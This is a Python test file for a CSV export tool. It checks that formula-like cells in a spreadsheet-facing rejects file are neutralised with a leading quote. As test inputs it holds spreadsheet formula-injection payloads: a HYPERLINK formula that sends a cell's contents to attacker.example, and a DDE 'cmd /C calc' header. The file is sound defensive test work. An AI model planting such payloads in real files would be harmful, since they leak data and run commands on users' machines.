"""rejects.csv, made for a spreadsheet, neutralises formula-like cells; the parts keep every value exact."""

from __future__ import annotations

import csv
from pathlib import Path

from .helpers import prepare_text

HYPERLINK = '=HYPERLINK("http://attacker.example/?"&D3,"open")'
TEXT = (
    "id,create_date_time,emails,phones,revenue,currency\n"
    f'"{HYPERLINK.replace(chr(34), chr(34) * 2)}",10.01.2024,first@example.com,,-3,RUB\n'
    "+o2,31.02.2024,@second@example.com,+7 999 555-11-11,10,RUB\n"
    "=SUM(1),10.01.2024,third@example.com,,10,RUB\n"
    'o4,11.01.2024,fourth@example.com,"-7 999 555-11-11",a=b,"\tEUR"\n'
)


def _read(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_rejected_cells_that_start_like_a_formula_get_a_leading_quote(tmp_path: Path) -> None:
    result = prepare_text(TEXT, tmp_path, on_invalid="skip", max_invalid_fraction=1.0)

    rejects = _read(tmp_path / "rejects.csv")
    assert [row["_row"] for row in rejects] == ["1", "2", "4"]
    assert [row["id"] for row in rejects] == ["'" + HYPERLINK, "'+o2", "o4"]
    assert [row["emails"] for row in rejects] == [
        "first@example.com",
        "'@second@example.com",
        "fourth@example.com",
    ]
    assert [row["phones"] for row in rejects] == ["", "'+7 999 555-11-11", "'-7 999 555-11-11"]
    assert [row["revenue"] for row in rejects] == ["'-3", "10", "a=b"]
    assert rejects[2]["currency"] == "'\tEUR"
    assert result.report.rows_written == 1


def test_the_parts_sent_to_metrika_keep_a_formula_like_id_byte_for_byte(tmp_path: Path) -> None:
    result = prepare_text(TEXT, tmp_path, on_invalid="skip", max_invalid_fraction=1.0)

    part = result.parts[0].path.read_bytes()
    assert b"\n=SUM(1),2024-01-10," in part
    assert b"'=" not in part


def test_masked_cells_are_neutralised_after_masking(tmp_path: Path) -> None:
    text = "id,create_date_time,emails,client_uniq_id\no1,31.02.2024,=mail@example.com,-12345678\n"

    prepare_text(text, tmp_path, hash_identifiers=True, on_invalid="skip", max_invalid_fraction=1.0)

    row = _read(tmp_path / "rejects.csv")[0]
    assert (row["emails"], row["client_uniq_id"]) == ("'=***@example.com", "'-1***78")
    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())


def test_a_column_name_that_starts_like_a_formula_is_neutralised_in_the_header(tmp_path: Path) -> None:
    text = "id,create_date_time,emails,=cmd|' /C calc'!A0\no1,31.02.2024,mail@example.com,x\n"

    prepare_text(text, tmp_path, unknown_columns="drop", on_invalid="skip", max_invalid_fraction=1.0)

    header = (tmp_path / "rejects.csv").read_text(encoding="utf-8").splitlines()[0]
    assert header == "id,create_date_time,emails,'=cmd|' /C calc'!A0,_row,_reasons"
